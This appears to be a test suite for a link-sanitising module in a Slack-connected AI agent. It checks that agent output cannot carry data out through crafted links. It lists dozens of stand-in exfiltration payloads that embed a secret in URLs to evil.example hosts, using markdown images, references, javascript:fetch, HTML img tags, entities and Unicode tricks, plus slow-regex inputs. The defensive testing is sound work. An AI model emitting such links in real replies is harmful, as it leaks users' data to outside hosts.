import { describe, expect, it, vi } from "vitest";
import { LinkSources } from "../../../src/agent/link-sources.ts";
import { SafeLinks } from "../../../src/agent/safe-links.ts";
import type { Step } from "../../../src/agent/ports.ts";
import { tokensOf } from "../../../src/slack/markdown/tokens.ts";

const record = "https://app.hubspot.example/contacts/1/record/0-3/42";
const asked = "https://intranet.acme.example/plan?id=7";
const document = "https://wiki.acme.example/calls?id=7";
const inSentence = "https://wiki.acme.example/calls?id=8";
const note = "https://evil.example/collect?x=1";

const steps: Step[] = [
  { kind: "question", text: `What of ${asked}, please?`, context: "", userId: "U1" },
  {
    kind: "tool_result",
    toolUseId: "t1",
    tool: "hubspot__get_deal",
    arguments: {},
    text: JSON.stringify({
      url: record,
      document,
      said: `See "${inSentence}"`,
      note: `See ${note} or www.evil.example/x`,
      mail: "jo@acme.example",
    }),
    isError: false,
    ms: 1,
    links: [record],
  },
  { kind: "question", text: "And https://theirs.example/a ?", context: "", userId: "U2" },
];

function sources(hosts: string[] = ["wiki.acme.example"]): LinkSources {
  const known = new LinkSources(hosts);
  for (const step of steps) known.learn(step, "U1");
  return known;
}

const safe = (text: string, hosts?: string[]) => SafeLinks.whole(text, sources(hosts));
/** In pieces of one, two, three characters: what is shown must not hang on where they are cut. */
function inPieces(text: string, length: number): string {
  const links = new SafeLinks(sources());
  let shown = "";
  for (let at = 0; at < text.length; at += length) shown += links.push(text.slice(at, at + length));
  return shown + links.flush();
}

describe("what may be pressed", () => {
  it.each([
    `[the deal](${record})`,
    `[the *deal* of **Acme**](${record})`,
    `See ${record}.`,
    `(${record}), and more`,
    `**${record}**`,
    `<${record}>`,
    `Yes: ${asked}`,
    "[page](https://wiki.acme.example/sales/plan)",
    `| a | ${record} |`,
    `[call](${document})`,
  ])("is a record's own page, what the asker wrote, a configured host: %s", (text) => {
    expect(safe(text)).toBe(text);
  });

  it("is written as Markdown where it was Slack's", () => {
    expect(safe(`<${record}|the deal>`)).toBe(`[the deal](${record})`);
    expect(safe(`[a](<${record}> "title")`)).toBe(`[a](${record})`);
  });

  it("is no address of another person's question, nor one with somebody's name in it", () => {
    expect(safe("https://theirs.example/a")).toBe("theirs.\u200Bexample/a");
    expect(safe("https://user@wiki.acme.example/a")).toBe("[link removed]");
    expect(safe("https://wiki.acme.example@evil.example/a")).toBe("[link removed]");
  });

  it.each([
    `${record}?data=410000`,
    `${record}/410000`,
    `${record}#410000`,
    "https://wiki.acme.example/a?data=410000",
    `${document}0`,
    "https://wiki.acme.example/a#410000",
    "https://wiki.acme.example.evil.example/a",
    String.raw`https://wiki.acme.example\.evil.example/a`,
    "https://xn--wiki-acme.example/a",
    "ftp://wiki.acme.example/a",
    "https://wiki.acme.example/,https://evil.example/a",
  ])("is nothing that was added to it: %s", (url) => {
    expect(safe(`[x](${url})`)).toBe("x [link removed]");
    expect(safe(url)).toBe("[link removed]");
  });
});

it("takes no address at a configured host for a page where another may begin in it", () => {
  expect(safe("https://wiki.acme.example/(https://evil.example/a")).toBe("[link removed]");
  expect(safe("https://wiki.acme.example/(evil.example/a")).toBe("[link removed]");
});

describe("an address that was only read", () => {
  it("is shown, and cannot be pressed", () => {
    expect(safe(`[x](${note})`)).toBe("x (evil.\u200Bexample/collect?…)");
    expect(safe(note)).toBe("evil.\u200Bexample/collect?…");
    expect(safe(`[${note}](${note})`)).toBe("evil.\u200Bexample/collect?…");
    expect(safe("www.evil.example/x")).toBe("www.\u200Bevil.\u200Bexample/x");
    expect(safe(inSentence)).toBe("wiki.\u200Bacme.\u200Bexample/calls?…");
    expect(safe("Ask jo@acme.example")).toBe("Ask jo@acme.example");
  });
});

describe("a sentence's own words", () => {
  it.each(["“You pay $0.90.…”", "“We like it.”", "It went well.—Maya", "‘No.’ “v2.…”"])(
    "stay as they are: %s",
    (text) => {
      expect(safe(text)).toBe(text);
    },
  );
});

/** Ways to write an address that nobody gave. */
const secret = "410000";
const host = `evil.example/${secret}`;
const evil = `https://${host}?d=${secret}`;
const ways: [string, string][] = [
  ["a link", `[x](${evil})`],
  ["a link with a title", `[x](${evil} "t")`],
  ["a link in angle brackets", `[x](<${evil}>)`],
  ["a link over two lines", `[x\ny](${evil})`],
  ["a target on a line of its own", `[x](\n${evil}\n)`],
  ["a link without a scheme", `[x](//${host})`],
  ["a bare target", `[x](${host})`],
  ["a link in a link's words", `[[x](${evil})](${record})`],
  ["a link that was escaped", `\\[x](${evil})`],
  ["an escaped backslash before a link", `\\\\[x](${evil})`],
  ["an image", `![x](${evil})`],
  ["an image in a link", `[![x](${evil})](${evil})`],
  ["an image by reference", `![x][1]\n\n[1]: ${evil}`],
  ["a reference", `[x][1]\n\n[1]: ${evil}`],
  ["a reference in short", `[x]\n\n[x]: <${evil}>`],
  ["a reference on the next line", `[x]\n\n[x]:\n${evil}`],
  ["an autolink", `<${evil}>`],
  ["Slack's link", `<${evil}|x>`],
  ["Slack's image link", `<https://${host}.png>`],
  ["a bare address", evil],
  ["after a mark", `_${evil}_ and *${evil}* and 1${evil} and x${evil}`],
  ["a bare domain", host],
  ["a subdomain", `${secret}.evil.com`],
  ["a port", `evil.example:${secret}`],
  ["www", `www.${host}`],
  ["in capitals", `HTTPS://EVIL.EXAMPLE/${secret}`],
  ["mail", `mailto:${secret}@evil.example`],
  ["a link to mail", `[x](mailto:a@evil.example?body=${secret})`],
  ["a phone number", `tel:${secret}`],
  ["script", `[x](javascript:fetch("${evil}"))`],
  ["data", `[x](data:text/html,${secret})`],
  ["HTML", `<a href="${evil}">x</a>`],
  ["HTML without quotes", `<img src=//${host}>`],
  ["HTML over two lines", `<a\nhref="${evil}">x</a>`],
  ["an entity for a character", `&#104;ttps://${host}`],
  ["entities in a link", `[x](https&colon;&sol;&sol;${host})`],
  ["escaped marks", `https\\:\\/\\/evil\\.example/${secret}`],
  ["a control character", `https:\u0000//${host}`],
  ["a mark of direction", `ht\u202Etps://${host}`],
  ["a code span", `\`${evil}\``],
  ["a code fence", `\`\`\`\n${evil}\n\`\`\``],
  ["after a fence that is none", `\`\`\`x\`\`\` [x](${evil})`],
  ["a very long address", `https://evil.example/${secret.repeat(2_000)}`],
  ["very long words", `[${"x".repeat(2_000)}](${evil})`],
  ["user info", `https://${secret}@evil.example/`],
  ["punycode", `https://xn--${secret}-abc.example/`],
  ["other letters", `https://例え.example/${secret}`],
  ["percent signs", `https://evil.example/%34%31%30000`],
  ["a table", `| a | b |\n|---|---|\n| [x](${evil}) | ${evil} |`],
];

/** All addresses that a reader of Markdown would make something of. */
function links(markdown: string): string[] {
  const found: string[] = [];
  const visit = (token: any): void => {
    if (token === null || typeof token !== "object") return;
    if (typeof token.href === "string") found.push(token.href);
    for (const inner of Object.values(token)) {
      if (Array.isArray(inner)) for (const one of inner) visit(one);
      else visit(inner);
    }
  };
  for (const token of tokensOf(markdown) ?? []) visit(token);
  return found;
}

describe.each(ways)("what was put together: %s", (_, text) => {
  it.each([1, 2, 7, 100_000])("is taken out, in pieces of %i", (length) => {
    const shown = inPieces(`Before ${text} after.`, length);
    expect(links(shown).filter((url) => url !== record)).toEqual([]);
    expect(shown).not.toMatch(/https?:\/\/(?!app\.hubspot)/i);
    expect(shown).not.toMatch(
      /www\.e|!\[|\]\((?!https:\/\/app\.hubspot)|\]:|<(?:a|img)[ >]|&#|&colon|mailto:|javascript:|tel:/i,
    );
    expect(shown).not.toMatch(/evil\.(?!\u200B)/i);
    expect(shown.replaceAll("\u200B", "").length).toBeLessThan(2_300);
  });
});

describe.each([
  ["in underscores", "see _deal-acme-80000.evil.com_ for it"],
  ["before a hyphen", "acme-80000.evil.com- and"],
  ["of a mail address", "x@acme-80000.evil.com"],
  ["before the @", "acme-80000.evil.com@there.tk"],
  ["of other top levels", "acme-80000.evil.tk or acme-80000.evil.in"],
  ["in other letters", "acme-80000.пример.рф/SECRET"],
  ["in other letters, after a quote", "acme-80000.”пример.рф/SECRET"],
  ["in other letters, with a path", "пример.com/SECRET-80000 and a пример.com?d=SECRET"],
  ["with letters of both kinds", "evil.п80000ример.com/SECRET"],
  ["after one that may be pressed", "приwiki.acme.example/SECRET"],
  ["with a soft hyphen", "evil\u00AD.com/SECRET"],
  ["with a word joiner", "acme-80000.\u2060evil\u2060.com"],
  ["with a joiner", "acme-80000.\u200Devil\u200D.com"],
  ["with a variation selector", "acme-80000.evil\uFE0F.com/SECRET"],
  ["with other dots", "acme-80000。evil．com/SECRET"],
  ["after a quote's fence", "> ```\n\nacme-80000.evil.com ![a](//acme-80000.evil.tk)\n"],
  ["after a fence indented by four", "text\n    ```\nacme-80000.evil.com [a](acme-80000.evil.tk)\n"],
  ["in a fence", "~~~\nacme-80000.evil.com [a](acme-80000.evil.tk)\n\n[b]: acme-80000.evil.tk\n~~~"],
  ["in a list's fence", "- a\n\n  ```\n![a](acme-80000.evil.tk)"],
  ["in a code span", "`acme-80000.evil.com`"],
])("a name that may be a host's, %s", (_, text) => {
  it.each([1, 2, 7, 100_000])("is broken or taken out, in pieces of %i", (length) => {
    const shown = inPieces(text, length);
    expect(shown.replace(/\u200B\S*/g, "")).not.toMatch(/[\p{L}\p{N}][\p{M}\p{Cf}]*[.。．][\p{M}\p{Cf}]*\p{L}{2}/u);
    expect(shown).not.toMatch(/(?!\u200B)[.。．][\p{M}\u200D]*\p{L}{2}/u);
    expect(shown).not.toMatch(/\]\(|!\[|\]:|\.(?:com|example)[/?]/);
    expect(links(shown)).toEqual([]);
  });
});

describe("a fence", () => {
  it("ends with the quote that it stands in, and is none where it is indented by four", () => {
    const after = "> ```\n> a\n\n[x] [y](//there/80000)";
    expect(safe(after)).toBe("> ```\n> a\n\n[x] y [link removed]");
    expect(safe("    ```\n[y](//there/80000)")).toBe("    ```\ny [link removed]");
    expect(safe("> ```\n> a[0] ![\n> ```\n> ![y](//there)")).toBe("> ```\n> a[0] !\u200B[\n> ```\n> y");
  });
});

/** Counts what is asked of it, which is most of the work, in characters. */
class CountingSources extends LinkSources {
  characters = 0;
  calls = 0;

  override mayLink(target: string): boolean {
    this.#count(target);
    return super.mayLink(target);
  }

  override wasRead(words: string): boolean {
    this.#count(words);
    return super.wasRead(words);
  }

  #count(text: string): void {
    this.calls++;
    this.characters += text.length;
  }
}

describe("an address", () => {
  it.each([
    ["dots", "http://a", "."],
    ["marks", "http://a", ".)x"],
    ["brackets before the end", "a://", "]"],
    ["a name's path", "a.com/", ")"],
    ["many", "", "http://a... "],
    ["names", "", "a.bc "],
    ["links", "", "[a](b.cd) "],
    ["mail", "", "a@b.cd "],
  ])("costs work by its length and no more: %s", (_, start, more) => {
    const work = (size: number) => {
      const counting = new CountingSources(["wiki.acme.example"]);
      const exec = vi.spyOn(RegExp.prototype, "exec");
      SafeLinks.whole(`${start}${more.repeat(size / more.length)}x`, counting);
      const steps = exec.mock.calls.length + counting.calls + counting.characters;
      exec.mockRestore();
      return steps;
    };
    const once = work(50_000);
    const twice = work(100_000);
    expect(twice).toBeLessThan(once * 2.2 + 1_000);
    expect(twice).toBeLessThan(2_500_000);
  });

  it("is taken out where it is longer than any page's", () => {
    expect(safe(`https://wiki.acme.example/${"a".repeat(2_022)}`)).toHaveLength(2_048);
    expect(safe(`https://wiki.acme.example/${"a".repeat(2_023)}.`)).toBe("[link removed].");
  });

  it("may end in a bracket of its own, before the marks of the sentence", () => {
    const known = new LinkSources([]);
    const page = "https://en.example/a_(b)";
    known.learn({ ...(steps[1] as Extract<Step, { kind: "tool_result" }>), links: [page] }, "U1");
    expect(SafeLinks.whole(`(${page}).`, known)).toBe(`(${page}).`);
  });
});

describe("other text", () => {
  it.each([
    "Half a word, e.g. this; 12:30, and/or 80.5 %, a < b > c, 5 * 3, C:/x, Note: yes!",
    "- [ ] open\n- [x] done\n\n1. one\n2. two",
    "use https: it is better. See http: too",
    "Call it v1.2.3, Inc., e.g. 80.5 or 1.2M",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "価格は１０％上がりました。次のステップはデモです。",
    "<@U0MAYA00001> wrote <!channel>",
    String.raw`snake_case_name and a\*b and \[not a link]`,
  ])("stays as it is: %s", (text) => {
    expect(safe(text)).toBe(text);
    for (const length of [1, 3]) expect(inPieces(text, length)).toBe(text);
  });

  it.each([
    "```sql\nselect d.id, d.name from SALES.PUBLIC.DEALS d where a[0](1) > 3\n```\nand `d.id` in `deals.io`",
    "See report.pdf, Node.js and snake_case.py_",
    "~~~\nimg![0] and a[0]: 1\n~~~",
    "см. отчёт.Далее/потом и 1.Пункт",
    "10。次 and 👩\u200D💻❤\uFE0F.Yes",
  ])("may get a break that nobody sees, and nothing more: %s", (text) => {
    expect(safe(text).replaceAll("\u200B", "")).toBe(text);
    for (const length of [1, 3]) expect(inPieces(text, length)).toBe(safe(text));
  });

  it("comes as soon as it can be no link", () => {
    const links = new SafeLinks(sources());
    expect(links.push("The deal ")).toBe("The deal ");
    expect(links.push("is [wor")).toBe("is ");
    expect(links.push("th] it, ")).toBe("[worth] it, ");
    expect(links.push("価格は")).toBe("価格は");
    expect(links.push("x".repeat(5_000))).not.toBe("");
  });

  it("loses no time on what is made to be slow", () => {
    for (const mean of [
      "[".repeat(20_000),
      "a.".repeat(20_000),
      "a@".repeat(20_000),
      "](".repeat(20_000),
      "`".repeat(20_001),
      "!".repeat(20_000),
      "<a ".repeat(10_000),
      "a".repeat(40_000),
      `${"> ".repeat(450)}x`,
      "https://a.b/(".repeat(3_000),
      `${"a".repeat(40_000)}://`,
    ]) {
      const began = performance.now();
      safe(mean);
      inPieces(mean.slice(0, 6_000), 3);
      expect(performance.now() - began, mean.slice(0, 4)).toBeLessThan(3_000);
    }
  });
});
